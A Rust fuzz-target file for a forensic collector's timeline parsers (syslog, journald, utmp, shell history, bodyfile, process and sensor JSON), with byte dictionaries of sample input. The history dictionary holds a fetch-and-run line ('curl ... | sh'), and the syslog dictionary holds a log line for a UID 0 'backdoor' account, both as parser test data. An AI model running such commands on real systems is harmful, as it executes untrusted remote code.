//! The timeline's parsers, through one thin adapter ([`parse`]): when the parsers change their
//! entry points (to stream, say), only `parse` is re-pointed and every target follows.
//!
//! Each input is parsed twice: with a plausible mtime and with an extreme one picked by the
//! input's bytes (the mtime comes from the manifest's `details`, which the host writes).

use super::{mix, text, Target};
use cairn_collector::timeline::parse;
use std::collections::BTreeSet;

/// Which parser, as the builder chooses them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Which {
    Syslog(&'static str),
    Journal,
    /// A binary journal file.
    JournalFile,
    Utmp(&'static str),
    History(&'static str),
    Bodyfile,
    Processes,
    Network,
    EventJournal,
    /// One sensor line at a time (live batches and `events.jsonl` lines).
    EbpfLines,
}

/// What a parser made of an input.
#[derive(Debug, Default)]
pub struct Summary {
    pub events: u64,
    pub unparsed: u64,
    pub kinds: BTreeSet<String>,
}

impl cairn_collector::timeline::Emit for Summary {
    fn put(
        &mut self,
        e: cairn_collector::storage::timeline::Event,
        unparsed: bool,
    ) -> Result<(), cairn_collector::timeline::Stop> {
        self.events += 1;
        self.unparsed += u64::from(unparsed);
        self.kinds.insert(e.kind);
        Ok(())
    }
}

/// The adapter: run one parser over `data`, streaming, as the builder does.
pub fn parse(which: Which, data: &[u8], mtime_ns: i64) -> Summary {
    let mut s = Summary::default();
    let out = &mut s;
    // A parser stops only when its sink or its reader fails; neither does here.
    let _ = match which {
        Which::Syslog(source) => parse::syslog::parse(&data, source, mtime_ns, out),
        Which::Journal => parse::journal::parse(data, mtime_ns, out),
        Which::JournalFile => parse::journal_file::parse(data, mtime_ns, out),
        Which::Utmp(source) => parse::utmp::parse(data, source, mtime_ns, out),
        Which::History(source) => {
            parse::history::parse(data, source, Some("alice".into()), mtime_ns, out)
        }
        Which::Bodyfile => parse::bodyfile::parse(data, mtime_ns, out),
        Which::Processes => parse::volatile::processes(data, mtime_ns, out),
        Which::Network => parse::volatile::network(data, mtime_ns, out),
        Which::EventJournal => parse::volatile::event_journal(data, mtime_ns, out),
        Which::EbpfLines => {
            for line in String::from_utf8_lossy(data).lines() {
                match parse::ebpf::from_line(line) {
                    Some(e) => {
                        s.events += 1;
                        s.kinds.insert(e.kind);
                    }
                    None => s.unparsed += 1,
                }
            }
            return s;
        }
    };
    s
}

/// 2026-11-29T09:57:52Z.
const PLAUSIBLE_MTIME: i64 = 1_795_946_272_000_000_000;
const EXTREME_MTIMES: [i64; 5] = [i64::MAX, i64::MIN, 0, -1, i64::MAX - 86_400_000_000_000];

fn run(which: Which, data: &[u8]) -> u64 {
    let extreme = EXTREME_MTIMES[data.iter().map(|b| usize::from(*b)).sum::<usize>() % 5];
    let mut shape = 0;
    for mtime in [PLAUSIBLE_MTIME, extreme] {
        let s = parse(which, data, mtime);
        if which != Which::EbpfLines {
            assert!(
                s.unparsed <= s.events,
                "{which:?}: {} unparsed lines but only {} events (each unparsed line is an event)",
                s.unparsed,
                s.events
            );
        }
        // Sensor events carry their kind from the input: only how many, not which.
        let kinds = if matches!(which, Which::EbpfLines | Which::EventJournal) {
            s.kinds.len().min(8).to_string()
        } else {
            s.kinds
                .iter()
                .map(String::as_str)
                .collect::<Vec<_>>()
                .join(",")
        };
        shape = mix(
            shape,
            crate::engine::shape(&format!("{kinds} {}", s.unparsed.min(3))),
        );
    }
    shape
}

const SYSLOG_DICT: &[&[u8]] = &[
    b"Nov 29 09:57:52 ",
    b"Jan  1 00:00:00 ",
    b"Dec 31 23:59:60.999999999 ",
    b"Feb 29 12:00:00 ",
    b"2026-11-29T09:57:52.065472+00:00 ",
    b"2262-04-11T23:47:16.854775807Z ",
    b"1677-09-21T00:12:43.145224192Z ",
    b"ip-10-0-1-17 ",
    b"sshd[4121]: ",
    b"sudo: ",
    b"su[77]: ",
    b"CRON[1]: ",
    b"useradd[9]: ",
    b"Accepted password for ",
    b"Accepted publickey for ",
    b"Failed password for invalid user ",
    b" from 203.0.113.7 port 50022 ssh2",
    b"session opened for user root(uid=0) by alice(uid=1000)",
    b" : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=",
    b"new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash",
    b"(root) CMD (",
    b"Disconnected from user ",
    b"\n",
];

const JOURNAL_DICT: &[&[u8]] = &[
    b"__REALTIME_TIMESTAMP=",
    b"\"__REALTIME_TIMESTAMP\":\"",
    b"__CURSOR=",
    b"MESSAGE=",
    b"MESSAGE\n",
    b"\"MESSAGE\":",
    b"SYSLOG_IDENTIFIER=",
    b"_PID=",
    b"_UID=",
    b"_COMM=",
    b"_EXE=",
    b"_SYSTEMD_UNIT=",
    b"9223372036854775807",
    b"9223372036854",
    b"\xff\xff\xff\xff\xff\xff\xff\x7f",
    b"\x08\x00\x00\x00\x00\x00\x00\x00",
    b"\n\n",
];

const JOURNAL_FILE_DICT: &[&[u8]] = &[
    b"LPKSHHRH",
    // Incompatible flags: compact, each compression.
    &[0x14, 0, 0, 0],
    &[0x19, 0, 0, 0],
    &[0x1e, 0, 0, 0],
    // Object types (data, entry, entry array) with compression flags.
    &[1, 0],
    &[1, 1],
    &[1, 2],
    &[1, 4],
    &[3, 0],
    &[6, 0],
    &[0, 0, 0, 0, 1, 0, 0, 0],
    &[0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f],
    &[0xf8, 0xff, 0xff, 0xff],
    b"MESSAGE=",
    b"SYSLOG_IDENTIFIER=sshd",
    b"_PID=",
    b"Accepted publickey for ",
    &[0x28, 0xb5, 0x2f, 0xfd],
    &[0xfd, b'7', b'z', b'X', b'Z', 0],
];

const UTMP_DICT: &[&[u8]] = &[
    &[7, 0, 0, 0],
    &[8, 0, 0, 0],
    &[2, 0, 0, 0],
    &[0xff, 0xff, 0xff, 0x7f],
    &[0, 0, 0, 0x80],
    &[0x3f, 0x42, 0x0f, 0],
    b"pts/0\0",
    b"alice\0",
];

const HISTORY_DICT: &[&[u8]] = &[
    b"#1795946281\n",
    b"#-1\n",
    b"#99999999999999999999\n",
    b": 1795946281:0;",
    b": 9223372036854775807:0;",
    b"\\\n",
    b"curl http://198.51.100.9/x | sh\n",
];

const BODYFILE_DICT: &[&[u8]] = &[
    b"0|",
    b"|",
    b"/etc/shadow",
    b"r/rrw-r-----",
    b"1795946281",
    b"1795946281.123456789",
    b"-1",
    b"9223372036.999999999",
    b"-9223372037",
    b"\n",
];

pub const JSON_DICT: &[&[u8]] = &[
    b"\"processes\"",
    b"\"sockets\"",
    b"\"collected_at\"",
    b"\"start_time\"",
    b"\"kernel_thread\"",
    b"\"vanished\"",
    b"\"cmdline\"",
    b"\"exe\"",
    b"\"comm\"",
    b"\"pid\"",
    b"\"ppid\"",
    b"\"uid\"",
    b"\"time\"",
    b"\"kind\"",
    b"\"process\"",
    b"\"socket\"",
    b"\"args\"",
    b"\"container_id\"",
    b"\"local\"",
    b"\"remote\"",
    b"\"state\"",
    b"\"LISTEN\"",
    b"\"process_exec\"",
    b"\"tcp_connect\"",
    b"\"2026-11-29T09:57:52.065472261Z\"",
    b"\"2262-04-11T23:47:16.854775807Z\"",
    b"null",
    b"[]",
    b"{}",
    b"\n",
];

pub fn targets() -> Vec<Target> {
    vec![
        text(
            "syslog",
            "timeline syslog parser (syslog/messages): RFC 3339 and year-less stamps",
            SYSLOG_DICT,
            |d| run(Which::Syslog("syslog"), d),
        ),
        text(
            "auth_log",
            "timeline syslog parser as auth.log: sshd, sudo, su, useradd",
            SYSLOG_DICT,
            |d| run(Which::Syslog("auth.log"), d),
        ),
        text(
            "journal_json",
            "timeline journal parser, journalctl -o json",
            JOURNAL_DICT,
            |d| run(Which::Journal, d),
        ),
        text(
            "journal_export",
            "timeline journal parser, the Journal Export Format (binary fields)",
            JOURNAL_DICT,
            |d| run(Which::Journal, d),
        ),
        Target {
            // An XZ field's decoder holds its 8 MiB dictionary, whatever the input's size.
            alloc_floor: 40 * super::MIB,
            ..text(
                "journal_file",
                "timeline binary journal file parser (entry arrays, compact, XZ/LZ4/ZSTD fields)",
                JOURNAL_FILE_DICT,
                |d| run(Which::JournalFile, d),
            )
        },
        text(
            "utmp",
            "timeline utmp parser (wtmp, btmp, utmp records)",
            UTMP_DICT,
            |d| run(Which::Utmp("wtmp"), d),
        ),
        text(
            "bash_history",
            "timeline shell history parser, bash with #EPOCH lines",
            HISTORY_DICT,
            |d| run(Which::History("bash_history"), d),
        ),
        text(
            "zsh_history",
            "timeline shell history parser, zsh extended format",
            HISTORY_DICT,
            |d| run(Which::History("zsh_history"), d),
        ),
        text(
            "bodyfile",
            "timeline bodyfile parser (TSK 3.x)",
            BODYFILE_DICT,
            |d| run(Which::Bodyfile, d),
        ),
        text(
            "processes_json",
            "timeline processes.json parser",
            JSON_DICT,
            |d| run(Which::Processes, d),
        ),
        text(
            "network_json",
            "timeline network.json parser",
            JSON_DICT,
            |d| run(Which::Network, d),
        ),
        text(
            "events_jsonl",
            "timeline events.jsonl (event journal item) parser",
            JSON_DICT,
            |d| run(Which::EventJournal, d),
        ),
        text(
            "ebpf_line",
            "timeline sensor event lines (live batches), one at a time",
            JSON_DICT,
            |d| run(Which::EbpfLines, d),
        ),
    ]
}
